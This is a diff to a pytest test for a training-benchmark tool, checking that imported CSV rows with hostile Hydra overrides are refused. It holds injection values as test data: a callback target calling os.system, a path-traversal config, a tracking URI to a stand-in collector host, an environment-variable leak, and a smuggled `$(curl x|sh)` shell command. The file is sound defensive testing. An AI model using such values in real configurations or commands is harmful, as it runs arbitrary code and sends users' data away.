@@ -311,28 +311,37 @@ def test_a_command_that_sets_hydras_own_keys_is_refused_by_line(store, tmp_path,
     """The report prints a row's `reproduce` command for anyone to run, and `+hydra.callbacks.x._target_=...` has
     Hydra call any function when it is run (2026-11-29: such a row was imported and its command printed)."""
     quoted = "'+hydra.callbacks.evil._target_=builtins.print'"  # a shell's quotes: Hydra gets the word without
-    foreign = (
-        "+hydra.callbacks.evil._target_=builtins.print", quoted, "hydra/launcher=basic", "--multirun",
-        "+experiment=../../../../tmp/planted",  # any YAML, which can set hydra.callbacks
-        "tracking.uri=http://collector.example:5000",  # the reader's runs, hardware and packages sent elsewhere
-        "data.root=/home", "framework.install=pip_install_this", "model.depth=${oc.env:HOME}",
-    )  # fmt: skip
-    for extra in foreign:
+    foreign = {
+        "+hydra.callbacks.evil._target_=builtins.print": "which is not a setting of the cell",
+        quoted: "which is not a setting of the cell",
+        "hydra/launcher=basic": "which is not a setting of the cell",
+        "--multirun": "which is a flag",
+        "+experiment=../../../../tmp/planted": "which names no file of conf/experiment/",  # any YAML: its callbacks
+        "tracking.uri=http://collector.example:5000": "which is not a setting of the cell",  # your runs sent away
+        "data.root=/home": "which is not someone else's to choose",
+        "model.weights_file=../../x": "which is not someone else's to choose",
+        "framework.install=pip_install_this": "which is not someone else's to choose",
+        "model.depth=${oc.env:HOME}": "whose value is not a name",  # the reader's environment in their runs
+        "model.depth=$\\\\{oc.env:HOME\\\\}": "whose value is not a name",  # Hydra's escape: one again
+    }
+    for extra, why in foreign.items():
         row = GOOD_ROWS[2] + f",+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu {extra}"
         assert cli.main([str(write_csv(tmp_path / "hydra.csv", [row])), "--experiment", "hydra"]) == 2
         (err,) = capsys.readouterr().err.strip().splitlines()
-        assert f"holds '{extra.strip(chr(39))}', which is not a setting of the cell" in err, err
+        assert f"holds {shlex.split(extra)[0]!r}, {why}" in err, err
         assert "nothing was imported" in err, err
     assert runs_in(store, "hydra") == []
-    from trainbench.references.mapping import reproducible
+    from trainbench.references.commands import reproducible
 
     # the report's command runs what the row says and nothing else when pasted into a shell
-    assert (
-        reproducible("model=mlp optim.name='$(curl x|sh)'") == "python src/run.py model=mlp 'optim.name=$(curl x|sh)'"
-    )
+    assert reproducible("model=mlp optim.name='$(curl x|sh)'") is None
+    # quoted as a shell needs it, so that the pasted command passes each word as it is
+    spaced = "python src/run.py model=mlp 'model.hidden_sizes=[64, 32]'"
+    assert reproducible("model=mlp 'model.hidden_sizes=[64, 32]'") == spaced
     assert reproducible("model=mlp '+hydra.callbacks.x._target_=os.system'") is None
     assert reproducible("model=mlp tracking.uri=http://collector.example:5000") is None
     assert reproducible("+experiment=mlp_depth_study model.depth=5 device=cpu batch_size=32 seed=1") is not None
+    assert reproducible("model=mlp cell.timeout_s=3600 tracking.system_metrics_interval_s=0 ++model.depth=2")
 
 
 def test_power_says_what_it_covers(imported) -> None:
